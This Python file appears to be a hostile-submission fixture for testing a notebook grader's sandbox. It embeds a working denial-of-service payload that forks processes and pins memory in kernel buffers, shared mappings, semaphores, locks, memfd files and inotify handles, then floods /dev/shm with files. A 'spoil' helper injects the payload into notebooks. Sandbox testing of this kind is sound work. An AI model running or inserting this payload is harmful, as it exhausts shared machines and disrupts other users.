"""Hold memory where no limit sees it: in the kernel, and in shared pages."""

from assignments.hostile import first, replaced

ATTACK = """
import ctypes
import fcntl
import mmap
import os
import socket

LIBC = ctypes.CDLL(None, use_errno=True)
SIZE = 10**7

def in_sockets(kept):
    pair = socket.socketpair()
    for end in pair:
        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, SIZE)
        end.setblocking(False)
        end.send(bytes(SIZE))
    kept.append(pair)

def in_shared_pages(kept):
    shared = mmap.mmap(-1, SIZE)
    shared.write(bytes(SIZE))
    shared.madvise(mmap.MADV_DONTNEED)
    kept.append(shared)

def in_zeros(kept):
    with open("/dev/zero", "r+b") as file:
        shared = mmap.mmap(file.fileno(), SIZE)
    shared.write(bytes(SIZE))
    shared.madvise(mmap.MADV_DONTNEED)
    kept.append(shared)

def in_semaphores(kept):
    if LIBC.semget(0, 32_000, 0o1600) < 0:
        raise OSError

def in_locks(kept):
    with open("/tmp/locked", "wb") as file:
        for place in range(2 * 10**6, 0, -2):
            fcntl.lockf(file, fcntl.LOCK_EX, 1, place)

def in_memory_files(kept):
    kept.append(os.memfd_create("kept"))
    os.write(kept[-1], bytes(SIZE))

def in_watches(kept):
    kept.append(LIBC.inotify_init1(0))
    if kept[-1] < 0:
        raise OSError

def attack(*arguments, **options):
    try:
        open("/proc/self/oom_score_adj", "w").write("0")
    except OSError:
        pass
    for _ in range(4):
        os.fork()
    kept = []
    for road in (in_sockets, in_shared_pages, in_zeros, in_semaphores, in_locks,
                 in_memory_files, in_watches):
        try:
            for _ in range(150):
                road(kept)
        except (OSError, MemoryError, ValueError):
            pass
    for number in range(600_000):
        open(f"/dev/shm/{os.getpid()}-{number}", "w").close()
"""


def spoil(notebook, honest):
    """Hold it before everything, and whenever another function is called."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
